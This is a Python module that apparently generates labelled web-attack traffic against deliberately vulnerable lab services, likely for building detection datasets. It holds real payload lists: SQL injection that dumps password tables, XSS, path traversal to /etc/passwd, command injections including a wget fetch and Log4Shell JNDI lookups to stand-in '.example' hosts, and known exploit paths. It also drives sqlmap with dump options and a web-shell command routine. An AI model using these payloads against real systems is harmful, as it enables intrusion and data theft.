"""Attacks on web applications: sqlmap, directory guessing by four tools, parameter fuzzing, our own series of injections, a
scanner of known holes, use of an uploaded script, enumeration of an API.

Owns: word lists, payloads, pace. Never: a host that is not of the site. The payloads are the textbook's; the targets
(services/weakweb.py, nginx) execute nothing. In: a context and its bounds. Out: requests.
"""

import urllib.parse

from ..catalog import hostile
from ..draws import log_uniform
from ..services.weakweb import PATHS
from . import crew
from .channels import fetch, web_client
from .crew import Bounds, Pace, attempts, run_bounded

_STEMS = ("admin", "backup", "old", "test", "data", "page", "file", "user", "site", "app", "doc", "sys", "web", "dev", "img", "conf")
_ENDS = ("", "", ".php", ".bak", ".zip", ".html", ".txt", ".asp", ".sql", ".tar.gz", "~", "/")
SQLI = ("'", "1' OR '1'='1", "1 OR 1=1--", "' UNION SELECT NULL--", "' UNION SELECT name,password,email FROM users--", "1; SELECT 1",
        "1 AND 1=2", "' AND (SELECT COUNT(*) FROM sqlite_master)>0--", "-1 UNION SELECT 1,name,password,email FROM users", "\" OR \"\"=\"",
        "1' AND SUBSTR((SELECT password FROM users LIMIT 1),{n},1)='{c}'--", "1 ORDER BY {n}--")
XSS = ("<script>alert({n})</script>", "\"><img src=x onerror=alert({n})>", "<svg/onload=alert({n})>", "javascript:alert({n})",
       "<body onload=alert('{c}')>", "'-alert({n})-'", "<iframe src=//{c}.example>")
TRAVERSAL = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.png",
             "../../../../proc/self/environ", "php://filter/convert.base64-encode/resource=index", "file:///etc/hosts", "../{c}/../etc/hosts")
COMMAND = ("127.0.0.1;id", "|whoami", "$(uname -a)", "`cat /etc/passwd`", "x&&ls -la", "127.0.0.1;sleep {n}", "a;wget http://{c}.example/x", "{{{{7*{n}}}}}", "${{jndi:ldap://{c}.example/a}}")
HOLES = ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/?q=${jndi:ldap://x.example/a}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
         "/actuator/env", "/actuator/health", "/manager/html", "/wp-json/wp/v2/users", "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//dev/cmdb",
         "/boaform/admin/formLogin", "/HNAP1/", "/cgi-bin/luci/;stok=/locale", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;id", "/_ignition/execute-solution",
         "/struts2-showcase/index.action", "/console/css/%252e%252e%252fconsole.portal", "/.env", "/.git/config", "/phpmyadmin/index.php", "/server-status",
         "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "/api/jsonws/invoke", "/cgi-bin/test.cgi", "/xmlrpc.php", "/setup.cgi?next_file=netgear.cfg",
         "/jenkins/script", "/invoker/readonly", "/autodiscover/autodiscover.json", "/ecp/x.js", "/nagiosxi/login.php", "/config.json", "/backup.sql", "/etc/passwd")
TOOLS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Wfuzz/3.1.0", "gobuster/3.5", "zgrab/0.x", "masscan/1.3", None, None, None, None, None, None)


class Target:
    """A web server under attack: address, port, TLS."""

    def __init__(self, ctx, *services):
        rng = ctx.rng
        services = services or rng.choice((("weakweb",), ("weakweb", "nginx"), ("weakweb", "nginx")))
        host = crew.victim(ctx, *services)
        name = rng.choice([s for s in services if host.offers(s)])
        self.tls = rng.random() < 0.3
        options, usual = host.offers(name).options, {"weakweb": (8080, 8443), "nginx": (80, 443)}[name]
        self.port = int(options.get("tls_port", usual[1]) if self.tls else options.get("port", usual[0]))
        self.address = crew.address_of(ctx, host)
        self.base = crew.url(self.address, self.port, self.tls, "")

    @property
    def to(self):
        """For the truth of programs."""
        return [(self.address, str(self.port), "tcp")]


def words(rng, count) -> list[str]:
    """A word list: usual names, usual stems with endings, in random order."""
    found = dict.fromkeys(rng.sample(PATHS, min(count, len(PATHS))))
    while len(found) < count:
        found[rng.choice(_STEMS) + rng.choice(("", "_", "-", str(rng.randrange(30)))) + rng.choice(_STEMS + ("",) * 8) + rng.choice(_ENDS)] = None
    listed = list(found)[:count]
    rng.shuffle(listed)
    return listed


def _word_file(ctx, count):
    path = ctx.directory / f"words{ctx.rng.getrandbits(32):x}.txt"
    path.write_text("\n".join(words(ctx.rng, count)) + "\n")
    return path


def _threads(ctx, flows, chosen, usual):
    """As many as leave each some requests before the flows are used up."""
    return chosen or min(ctx.rng.choice(usual), max(1, flows // 4))


def _requests(ctx, flows):
    """Tools that keep connections send several requests over each."""
    return round(flows * ctx.rng.choice((1, 2, 5, 10)))


async def _guess(ctx, argv, target, flows, seconds):
    await run_bounded(ctx, argv, to=target.to, flows=flows, seconds=seconds)


@hostile("web-sqlmap", label="web-attack", tool="sqlmap", technique="T1190")
async def sqlmap(ctx, flows, seconds, threads=None, delay_s=None):
    """sqlmap on an injectable page; detection, at times a dump (options: threads, delay_s)."""
    rng, target = ctx.rng, Target(ctx, "weakweb")
    url = target.base + rng.choice((f"/item?id={rng.randint(1, 50)}", "/search?q=steel", "/search?q=pump", "/item?id=7", "/hello?name=a"))
    delay_s = rng.choice((0, 0, 0.1, 0.5, 2)) if delay_s is None else delay_s
    argv = ["sqlmap", "-u", url, "--batch", "--flush-session", f"--output-dir={ctx.directory}/sqlmap", f"--level={rng.choice((1, 1, 2, 3))}",
            f"--risk={rng.choice((1, 1, 2))}", f"--threads={_threads(ctx, flows, threads, (1, 1, 2, 5, 10))}", f"--technique={rng.choice(('BEUSTQ', 'B', 'B', 'BE', 'BT', 'U'))}",
            "--timeout=10", "--retries=1", "--answers=crack=N,dict=N", "--ignore-stdin", "-v", "0"]
    argv += [f"--delay={delay_s}"] if delay_s else []
    argv += rng.choice(([], ["--random-agent"], ["--keep-alive"], ["--null-connection"])) if delay_s or rng.random() < 0.7 else []
    argv += rng.choice(([], ["--dump", "-T", "users"], ["--dump", "-T", "products"], ["--tables"], ["--dbms=sqlite", "--dump-all"]))
    await _guess(ctx, argv, target, flows, seconds)


@hostile("web-dirs-gobuster", label="web-attack", tool="gobuster", technique="T1595.003")
async def gobuster(ctx, flows, seconds, threads=None, delay_s=None):
    """Directory guessing (options: threads, delay_s)."""
    rng, target = ctx.rng, Target(ctx)
    argv = ["gobuster", "dir", "-u", target.base + "/", "-w", _word_file(ctx, _requests(ctx, flows)), "-q", "-z", "-k", "--no-error",
            "-t", _threads(ctx, flows, threads, (1, 2, 10, 20, 40)), "--timeout", "10s"]
    delay_s = rng.choice((0, 0, 0.2, 1)) if delay_s is None else delay_s
    argv += ["--delay", f"{int(delay_s * 1000)}ms"] if delay_s else []
    argv += rng.choice(([], ["-x", "php,bak"], ["-a", "Mozilla/5.0"], ["-f"]))
    await _guess(ctx, argv, target, flows, seconds)


@hostile("web-dirs-dirb", label="web-attack", tool="dirb", technique="T1595.003")
async def dirb(ctx, flows, seconds, delay_s=None):
    """Directory guessing, one request at a time (option delay_s)."""
    rng, target = ctx.rng, Target(ctx)
    argv = ["dirb", target.base + "/", _word_file(ctx, _requests(ctx, flows)), "-S", "-r", "-w"]
    delay_s = rng.choice((0, 0, 0.05, 0.5)) if delay_s is None else delay_s
    argv += ["-z", int(delay_s * 1000)] if delay_s else []
    await _guess(ctx, argv, target, flows, seconds)


@hostile("web-dirs-ffuf", label="web-attack", tool="ffuf", technique="T1595.003")
async def ffuf(ctx, flows, seconds, threads=None, delay_s=None):
    """Directory or parameter guessing (options: threads, delay_s of each thread)."""
    rng, target = ctx.rng, Target(ctx)
    place = rng.choice(("/FUZZ", "/FUZZ", "/item?FUZZ=1", "/api/v1/FUZZ"))
    argv = ["ffuf", "-u", target.base + place, "-w", _word_file(ctx, _requests(ctx, flows)), "-s", "-t", _threads(ctx, flows, threads, (1, 5, 20, 40)), "-timeout", 10]
    delay_s = rng.choice(("", "", "0.05", "0.1-1.0", "0.5-3.0")) if delay_s is None else delay_s
    argv += ["-p", delay_s] if delay_s else []
    argv += rng.choice(([], ["-H", "User-Agent: Mozilla/5.0"]))
    await _guess(ctx, argv, target, flows, seconds)


@hostile("web-fuzz-wfuzz", label="web-attack", tool="wfuzz", technique="T1595.003")
async def wfuzz(ctx, flows, seconds, threads=None, delay_s=None):
    """Parameter fuzzing with injections (options: threads, delay_s)."""
    rng, target = ctx.rng, Target(ctx)
    path = ctx.directory / f"fuzz{rng.getrandbits(32):x}.txt"
    kind = rng.choice((SQLI, XSS, TRAVERSAL, COMMAND))
    path.write_text("\n".join(_payload(rng, kind) for _ in range(_requests(ctx, flows))) + "\n")
    argv = ["wfuzz", "-t", _threads(ctx, flows, threads, (1, 2, 5, 10)), "--req-delay", 10, "-w", path, "--efield", "url"]
    delay_s = rng.choice((0, 0, 0.2, 1)) if delay_s is None else delay_s
    argv += ["-s", delay_s] if delay_s else []
    place = rng.choice(("/search?q=FUZZ", "/item?id=FUZZ", "/download?file=FUZZ", "/ping?host=FUZZ", "/hello?name=FUZZ"))
    await _guess(ctx, [*argv, target.base + place], target, flows, seconds)


def _payload(rng, kind):
    return rng.choice(kind).format(n=rng.randrange(1, 30), c=f"{rng.getrandbits(20):x}")


class Series:
    """Requests of ours: over kept or fresh connections, by one or more hands, at a pace."""

    def __init__(self, ctx, flows, seconds, target, pace=None):
        rng = ctx.rng
        self.ctx, self.target = ctx, target
        self.most_opened = crew.opened_connections(ctx) + flows  # a server may close after each answer
        self.keep, self.hands = rng.random() < 0.5, rng.choice((1, 1, 1, 2, 4, 8))
        self.bounds = Bounds(ctx, flows * (rng.choice((1, 4, 10)) if self.keep else 1), seconds)
        human = rng.random() < 0.4
        per_s = pace or (log_uniform(rng, 0.05, 1) if human else log_uniform(rng, 1, 60))
        self.pace = Pace(rng, per_s, "human" if human else None)
        if human:
            self.hands = 1
        self.agent = rng.choice(TOOLS)

    async def send(self, make):
        """`make()` gives method, path and options of the next request, or None at the end."""
        async with web_client(self.ctx, keep=self.keep, hands=self.hands, agent=self.agent, timeout_s=20) as client:

            async def attempt():
                made = make()
                if made is None or crew.opened_connections(self.ctx) >= self.most_opened:
                    return False
                method, path, options = made
                await fetch(client, method, self.target.base + path, **options)
                return True

            await attempts(self.ctx, self.bounds, self.pace, self.hands, attempt)


@hostile("web-inject", label="web-attack", tool="aiohttp", technique="T1190")
async def inject(ctx, flows, seconds, kind=None, pace=None):
    """SQL, script, traversal or command injections by hand or in series (options: kind sqli, xss, traversal, command, mixed;
    pace a second)."""
    rng, target = ctx.rng, Target(ctx)
    kinds = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "command": COMMAND}
    kind = kind or rng.choice((*kinds, "mixed"))
    places = {"sqli": ("/search?q=", "/item?id="), "xss": ("/hello?name=", "/search?q="), "traversal": ("/download?file=", "/f/"), "command": ("/ping?host=", "/hello?name=")}
    by_form = rng.random() < 0.25

    def make():
        chosen = rng.choice(list(kinds)) if kind == "mixed" else kind
        text = _payload(rng, kinds[chosen])
        if by_form:
            return "POST", rng.choice(("/comment", "/login")), {"data": {"text": text, "user": text, "password": "x"}}
        return "GET", rng.choice(places[chosen]) + urllib.parse.quote(text), {}

    await Series(ctx, flows, seconds, target, pace).send(make)


@hostile("web-scan-holes", label="web-attack", tool="aiohttp", technique="T1595.002")
async def scan_holes(ctx, flows, seconds, pace=None, wide=None):
    """Known holes and odd methods, as nikto and the botnets ask for them; `wide`: few paths on every web server (option pace)."""
    rng = ctx.rng
    targets = [Target(ctx) for _ in range(rng.randint(2, 6) if (rng.random() < 0.3 if wide is None else wide) else 1)]
    for target in targets:
        paths = list(HOLES) + ["/" + w for w in words(rng, rng.choice((5, 40, 300)))]
        rng.shuffle(paths)
        del paths[rng.choice((6, 40, 1000)):]

        def make(paths=paths):
            if not paths:
                return None
            headers = {"X-Api-Version": "${jndi:ldap://x.example/a}"} if rng.random() < 0.05 else {}
            return rng.choice(("GET",) * 9 + ("HEAD", "OPTIONS", "TRACE", "PUT")), paths.pop(), {"headers": headers}

        await Series(ctx, max(1, flows // len(targets)), seconds / len(targets), target, pace).send(make)


@hostile("web-shell", label="web-attack", tool="aiohttp", technique="T1505.003")
async def web_shell(ctx, flows, seconds, pace=None):
    """An upload, then orders through it at an operator's pace (option pace)."""
    rng, target = ctx.rng, Target(ctx, "weakweb")
    sent, by_post, name = 0, rng.random() < 0.6, f"/uploads/f{rng.randrange(3)}.php"

    def make():
        nonlocal sent
        sent += 1
        if sent == 1:
            return "POST", "/upload", {"data": rng.randbytes(round(log_uniform(rng, 200, 80_000)))}
        order = _payload(rng, COMMAND) + " " + rng.randbytes(rng.choice((0, 8, 300))).hex()
        if rng.random() < 0.05:
            return "POST", "/upload", {"data": rng.randbytes(round(log_uniform(rng, 1_000, 500_000)))}
        return ("POST", name, {"data": {"cmd": order}}) if by_post else ("GET", f"{name}?cmd={urllib.parse.quote(order)}", {})

    await Series(ctx, flows, seconds, target, pace or log_uniform(rng, 0.05, 2)).send(make)


@hostile("web-api-enumerate", label="web-attack", tool="aiohttp", technique="T1119")
async def enumerate_api(ctx, flows, seconds, pace=None):
    """Object after object: numbers in order, in leaps or at random (option pace)."""
    rng, target = ctx.rng, Target(ctx)
    kind, manner, number = rng.choice(("users", "orders", "products", "accounts")), rng.choice(("order", "leaps", "random")), rng.randrange(50)

    def make():
        nonlocal number
        number = rng.randrange(1, 2000) if manner == "random" else number + (1 if manner == "order" else rng.randint(1, 9))
        return "GET", f"/api/v1/{kind}/{number}", {}

    await Series(ctx, flows, seconds, target, pace).send(make)
